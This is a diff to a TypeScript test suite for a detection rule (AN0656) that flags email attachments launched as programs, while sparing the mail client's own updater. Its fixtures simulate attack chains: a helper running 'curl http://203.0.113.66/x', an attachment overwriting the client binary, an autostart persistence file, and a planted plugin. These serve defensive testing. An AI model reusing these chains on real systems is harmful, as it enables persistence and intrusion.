@@ -38,13 +38,23 @@ test('the updater of a client, run by the client on its own installation, is no 
   assert.ok(factorsOf(storyOf(alerts, 'AN0656')).includes(OWN));
 });
 
-test('the client that the updater starts anew connects, and had run before: low at most', async () => {
+test('the client that the updater starts anew, in its place or beside it, is the client', async () => {
+  for (const start of ['exec', 'run'] as const) {
+    const { log, client: by } = client();
+    by.write(HELPER);
+    log.wait(SECOND);
+    by.run(`${HELPER} ${WORDS}`)[start](CLIENT).connect('198.51.100.7', 993);
+    assert.equal(storyOf(await scanLog(log), 'AN0656').severity, 'informational', start);
+  }
+});
+
+test('an installed program elsewhere, that had run before, connects for the updater: low at most', async () => {
   const { log, client: by } = client();
+  log.shell('clerk').run('/usr/bin/notify-send x');
   by.write(HELPER);
   log.wait(SECOND);
-  by.run(`${HELPER} ${WORDS}`).run(CLIENT).connect('198.51.100.7', 993);
-  const story = storyOf(await scanLog(log), 'AN0656');
-  assert.equal(story.severity, 'low');
+  by.run(`${HELPER} ${WORDS}`).run('/usr/bin/notify-send x').connect('198.51.100.7', 443);
+  assert.equal(storyOf(await scanLog(log), 'AN0656').severity, 'low');
 });
 
 test('and so where root keeps the client, and it writes beside what people save', async () => {
@@ -97,6 +107,19 @@ const ATTACHMENTS: Readonly<Record<string, (facts: Facts) => void>> = {
     by.write(HELPER);
     by.run(`${HELPER} ${WORDS}`).write('/home/clerk/.config/autostart/u.desktop');
   },
+  'that starts the client, having put itself into its place': ({ client: by }) => {
+    by.write(HELPER);
+    by.run(`${HELPER} ${WORDS}`).write(CLIENT).run(CLIENT).connect('203.0.113.66', 443);
+  },
+  'that starts a script of the installation': ({ log, client: by }) => {
+    by.write(HELPER);
+    log.records.node('/opt/thunderbird/x', 0).uid = 1003;
+    by.run(`${HELPER} ${WORDS}`).run('/opt/thunderbird/x', { by: '/bin/sh' }).connect('203.0.113.66', 443);
+  },
+  'that its user runs, and that starts the client': ({ log, client: by }) => {
+    by.write(HELPER);
+    log.shell('clerk').run(HELPER).run(CLIENT).connect('203.0.113.66', 443);
+  },
   'that starts a shell which connects': ({ client: by }) => {
     by.write(HELPER);
     by.run(`${HELPER} ${WORDS}`).run('/usr/bin/curl http://203.0.113.66/x').connect('203.0.113.66', 80);
@@ -122,3 +145,70 @@ for (const [whose, owner, exe] of [
     by.run(`/home/clerk/updater ${exe}`);
     firesAt(await scanLog(log), 'AN0656', 'high');
   });
+
+/** Where the records tell of the installation as well: the client copies a program out of it. */
+const UPDATER = '/opt/thunderbird/updater';
+const copies = (by: Process, to = HELPER): Process => by.read(UPDATER).write(to);
+/** The updater puts the next version in place and starts it. */
+const renews = (helper: Process): void => {
+  helper
+    .read('/home/clerk/.cache/thunderbird/updates/0/update.mar')
+    .write(`${CLIENT}-next`)
+    .rename(`${CLIENT}-next`, CLIENT);
+  helper.run(CLIENT).connect('203.0.113.81', 443);
+};
+const severities = async (log: HostLog): Promise<string[]> =>
+  (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0656').map(({ severity }) => severity);
+
+test('a program that the client copies out of its installation is no attachment, whatever it does', async () => {
+  for (const words of ['', ` ${WORDS}`]) {
+    const { log, client: by } = client();
+    renews(copies(by).run(`${HELPER}${words}`));
+    assert.deepEqual(await severities(log), []);
+  }
+  const { log, client: by } = client();
+  copies(by, '/home/clerk/updater').run('/home/clerk/updater').connect('203.0.113.81', 443);
+  assert.deepEqual(await severities(log), []);
+});
+
+const NO_COPIES: Readonly<Record<string, (facts: Facts) => void>> = {
+  'has another name': ({ client: by }) => void copies(by, '/home/clerk/tool').run('/home/clerk/tool'),
+  'is written a while later': ({ log, client: by }) => {
+    by.read(UPDATER);
+    log.wait(2 * SECOND);
+    by.write(HELPER).run(HELPER);
+  },
+  'is written after another message was read': ({ log, client: by }) => {
+    const { path } = log.deliver();
+    by.read(UPDATER).read(path).write(HELPER).run(HELPER);
+  },
+  'is read by another program': ({ log, client: by }) => {
+    log.shell('clerk').run(`/bin/cat ${UPDATER}`).read(UPDATER);
+    by.write(HELPER).run(HELPER);
+  },
+  'has the name of a file elsewhere': ({ client: by }) => void by.read('/opt/other/updater').write(HELPER).run(HELPER),
+  'is written over later': ({ log, client: by }) => {
+    copies(by);
+    log.wait(2 * SECOND);
+    by.write(HELPER).run(HELPER);
+  },
+};
+for (const [what, act] of Object.entries(NO_COPIES))
+  test(`what ${what} is no such copy: high`, async () => {
+    const facts = client();
+    act(facts);
+    firesAt(await scanLog(facts.log), 'AN0656', 'high');
+  });
+
+test('what an attachment that runs, or its user, puts into the installation is content of the message', async () => {
+  for (const by of ['client', 'user'] as const) {
+    const { log, client: mail } = client();
+    mail.write('/home/clerk/tool');
+    const plugin = '/opt/thunderbird/plugin';
+    if (by === 'client') mail.run('/home/clerk/tool').write(plugin);
+    else log.shell('clerk').run(`/bin/cp /home/clerk/tool ${plugin}`).read('/home/clerk/tool').write(plugin);
+    log.shell('clerk').run(plugin).connect('203.0.113.66', 443);
+    const { story } = firesAt(await scanLog(log), 'AN0656', 'high');
+    assert.match(story, /203\.0\.113\.66/);
+  }
+});
